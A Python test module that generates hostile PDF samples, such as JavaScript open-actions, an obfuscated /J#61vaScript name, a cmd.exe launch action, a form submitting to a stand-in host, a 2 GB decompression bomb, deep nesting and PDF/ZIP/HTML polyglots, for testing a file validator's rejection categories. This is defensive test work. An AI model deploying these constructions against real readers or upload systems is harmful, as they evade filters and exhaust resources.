"""Hostile PDFs: scripts, attachments, passwords, bombs."""

# ruff: noqa: E501  one line a file reads best

import io

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile.hostile_file import HTML, MIB, PDF_TYPE, HostileFile
from tests.hostile.pictures import zeros
from tests.hostile.zips import archive


def pdf(change=None, *, pages=1, **options):
    with pikepdf.new() as file:
        for _ in range(pages):
            file.add_blank_page()
        if change:
            change(file)
        out = io.BytesIO()
        file.save(out, **options)
    return out.getvalue()


def script(file):
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def opening_script(file):
    file.Root.OpenAction = script(file)


def named_script(file):
    names = Array([pikepdf.String("a"), file.make_indirect(script(file))])
    file.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def page_script(file):
    file.pages[0].AA = Dictionary(O=script(file))


def annotation(**keys):
    def change(file):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), **keys)
        file.pages[0].Annots = Array([file.make_indirect(link)])

    return change


def action(**keys):
    return annotation(A=Dictionary(Type=Name.Action, **keys))


def launch(file):
    file.Root.OpenAction = Dictionary(S=Name.Launch, F="cmd.exe")


def attachment(file):
    file.attachments["boese.exe"] = b"MZ" + bytes(100)


def xfa(file):
    file.Root.AcroForm = Dictionary(Fields=Array(), XFA=file.make_stream(b"<xdp/>"))


def rich_media(file):
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, RichMediaContent=Dictionary())
    media.RichMedia = Dictionary()
    file.pages[0].Annots = Array([media])


def hidden_name():
    """/JavaScript written as /J#61vaScript."""
    body = (
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/#4a#53(app.alert\\(1\\))>>>>\nendobj\n",
        b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n",
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n",
    )
    return assembled(body)


def assembled(body):
    out, places = b"%PDF-1.7\n", []
    for part in body:
        places.append(len(out))
        out += part
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(body) + 1, table, len(body) + 1, len(out))
    )


def object_stream_bomb():
    """A stream of objects, which a reader must unpack, of two gigabytes in two megabytes."""
    packed = zeros(2048 * MIB)
    body = (
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
        b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n",
    )
    head = assembled(body)[: assembled(body).index(b"xref")]
    place = len(head)
    stream = (
        b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n"
    )
    return (
        head
        + stream % len(packed)
        + packed
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % place
    )


def deep_nesting():
    deep = b"[" * 60_000 + b"]" * 60_000
    return assembled(
        (
            b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + deep + b">>\nendobj\n",
            b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n",
        )
    )


def endless_pages():
    return assembled(
        (
            b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
            b"2 0 obj\n<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>\nendobj\n",
        )
    )


def locked(**permission):
    return pdf(encryption=pikepdf.Encryption(owner="besitz", **permission))


PDFS = [
    HostileFile("a.pdf", lambda: pdf(opening_script), PDF_TYPE, "script", "PDF with JavaScript"),
    HostileFile("a.pdf", lambda: pdf(named_script), PDF_TYPE, "script", "PDF with named JavaScript"),
    HostileFile("a.pdf", lambda: pdf(page_script), PDF_TYPE, "script", "PDF, script on a page"),
    HostileFile("a.pdf", hidden_name, PDF_TYPE, "script", "PDF, /J#61vaScript"),
    HostileFile("a.pdf", lambda: pdf(opening_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), PDF_TYPE, "script", "PDF, script in packed objects"),
    HostileFile("a.pdf", lambda: pdf(launch), PDF_TYPE, "script", "PDF that starts a program"),
    HostileFile("a.pdf", lambda: pdf(action(S=Name.SubmitForm, F="http://boese.example")), PDF_TYPE, "script", "PDF that sends a form"),
    HostileFile("a.pdf", lambda: pdf(action(S=Name.URI, URI="javascript:alert(1)")), PDF_TYPE, "script", "PDF, javascript: link"),
    HostileFile("a.pdf", lambda: pdf(action(S=Name.GoToE, F="x")), PDF_TYPE, "script", "PDF, way into an attachment"),
    HostileFile("a.pdf", lambda: pdf(attachment), PDF_TYPE, "attachment", "PDF with a file in it"),
    HostileFile("a.pdf", lambda: pdf(xfa), PDF_TYPE, "script", "PDF with XFA"),
    HostileFile("a.pdf", lambda: pdf(rich_media), PDF_TYPE, "script", "PDF with rich media"),
    HostileFile("a.pdf", lambda: locked(user="geheim"), PDF_TYPE, "encrypted", "PDF with a password"),
    HostileFile("a.pdf", lambda: locked(user=""), PDF_TYPE, "encrypted", "PDF, restricted"),
    HostileFile("a.pdf", lambda: pdf(pages=10_000), PDF_TYPE, "too_many_pages", "PDF, 10,000 pages"),
    HostileFile("a.pdf", object_stream_bomb, PDF_TYPE, "damaged|too_complex", "PDF bomb, 2 GB"),
    HostileFile("a.pdf", deep_nesting, PDF_TYPE, "damaged|too_complex", "PDF 60,000 deep"),
    HostileFile("a.pdf", endless_pages, PDF_TYPE, "damaged|too_complex", "PDF, pages in a circle"),
    HostileFile("a.pdf", lambda: pdf() + archive([("Boese.class", b"x")]), PDF_TYPE, "mixed", "PDF and ZIP"),
    HostileFile("a.pdf", lambda: pdf() + HTML * 30, PDF_TYPE, "mixed", "PDF, HTML behind the end"),
    HostileFile("a.pdf", lambda: HTML + pdf(), PDF_TYPE, "unknown_type", "HTML before the PDF"),
    HostileFile("a.pdf", HTML, PDF_TYPE, "unknown_type", "HTML as .pdf"),
    HostileFile("a.pdf", lambda: pdf()[:-120], PDF_TYPE, "damaged", "PDF, cut off"),
    HostileFile("a.pdf", b"%PDF-1.7\n" + bytes(200), PDF_TYPE, "damaged", "PDF signature alone"),
    HostileFile("a.pdf", b"%FDF-1.2\n", PDF_TYPE, "unknown_type", "FDF"),
    HostileFile("a.pdf", lambda: pdf() + bytes(20 * MIB), PDF_TYPE, "too_large", "PDF over 20 MB"),
]  # fmt: skip
